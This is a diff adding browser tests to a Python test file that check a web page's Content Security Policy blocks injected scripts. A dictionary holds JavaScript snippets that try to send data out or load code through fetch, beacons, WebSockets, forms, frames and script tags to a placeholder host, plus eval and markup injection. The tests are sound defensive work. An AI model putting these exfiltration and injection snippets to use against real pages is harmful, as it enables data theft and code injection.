@@ -156,6 +156,77 @@ def test_without_a_core_the_tables_stay_and_the_page_says_so(saved: Saved, obsta
     assert_tables_are_there(page)
 
 
+OUT = "https://outside.invalid/"
+BARRED = {
+    "fetch": f"fetch('{OUT}')",
+    "beacon": f"navigator.sendBeacon('{OUT}', 'x')",
+    "socket": "new WebSocket('wss://outside.invalid/')",
+    "events": f"new EventSource('{OUT}')",
+    "image": f"new Image().src = '{OUT}'",
+    "frame": f"append('iframe', {{src: '{OUT}'}})",
+    "object": f"append('object', {{data: '{OUT}'}})",
+    "media": f"append('audio', {{src: '{OUT}'}})",
+    "style": f"append('link', {{rel: 'stylesheet', href: '{OUT}'}})",
+    "prefetch": f"append('link', {{rel: 'prefetch', href: '{OUT}'}})",
+    "form": f"append('form', {{action: '{OUT}'}}).submit()",
+    "base": f"append('base', {{href: '{OUT}'}})",
+    "script": f"append('script', {{src: '{OUT}'}})",
+    "inline": "append('script', {textContent: 'window.ran = true'})",
+    "handler": "append('b').setAttribute('onclick', 'window.ran = true')",
+    "markup": "append('b').innerHTML = '<i>x</i>'",
+    "evaluation": "window.eval('window.ran = true')",
+    "worker": "new Worker('data:text/javascript,1')",
+    "policy": "trustedTypes.createPolicy('other', {createHTML: (text) => text})",
+}
+"""What a script that got in might try, to carry something out or to bring more in."""
+
+ATTEMPT = """() => new Promise((tell) => {
+  const append = (name, values = {}) => document.body.appendChild(Object.assign(document.createElement(name), values));
+  const heard = ({effectiveDirective}) => tell(effectiveDirective);
+  document.addEventListener('securitypolicyviolation', heard, {once: true});
+  // away from the driver's own call, in which text may be evaluated
+  setTimeout(() => { %s; });
+})"""
+
+
+def test_the_policy_bars_every_way_out_that_it_can(saved: Saved) -> None:
+    """Requests, frames, forms, foreign scripts, and text taken for script or markup are refused by the policy."""
+    page = saved.open()
+    page.wait_for_function("() => customElements.get('jw-app') !== undefined")
+
+    barred = {name: page.evaluate(ATTEMPT % code) for name, code in BARRED.items()}
+
+    requests = {barred[name] for name in ("fetch", "beacon", "socket", "events")}
+    assert requests == {"connect-src"}
+    assert {barred[name] for name in ("handler", "markup", "evaluation")} <= {
+        *("require-trusted-types-for", "script-src", "script-src-attr")
+    }
+    assert barred["policy"] == "trusted-types"
+    assert all(barred.values())
+    assert page.evaluate("() => window.ran") is None
+    assert page.url.startswith("file:")
+
+
+def test_the_page_works_where_text_is_no_markup(saved: Saved) -> None:
+    """Under its policy the page shows formulas and charts, and nothing of its own is barred."""
+    saved.page.add_init_script(
+        "window.barred = []; document.addEventListener('securitypolicyviolation',"
+        " (event) => window.barred.push(`${event.effectiveDirective} ${event.sample}`));"
+    )
+    page = saved.open(fragment="#family=n&band=20m&power_w=400")
+    saved.ready()
+
+    expect(page.locator("jw-derivation math").first).to_be_visible()
+    expect(page.locator("jw-derivation jw-chart .main-svg .scatterlayer").first).to_be_visible()
+    for view in ("choose", "line", "kit", "fitout", "sweep", "matrix"):
+        page.locator(f"jw-masthead [data-view={view}]").click()
+        expect(page.locator(f"jw-{view}-view main")).to_be_visible()
+    page.get_by_role("button", name="Put on a website").click()
+    expect(page.locator("jw-website")).to_be_visible()
+
+    assert page.evaluate("() => window.barred") == []
+
+
 def test_a_policy_against_workers_is_said(saved: Saved, tmp_path: Path) -> None:
     """A browser told to run no workers shows the tables, and the page says that this is all."""
     barred = tmp_path / "barred.html"
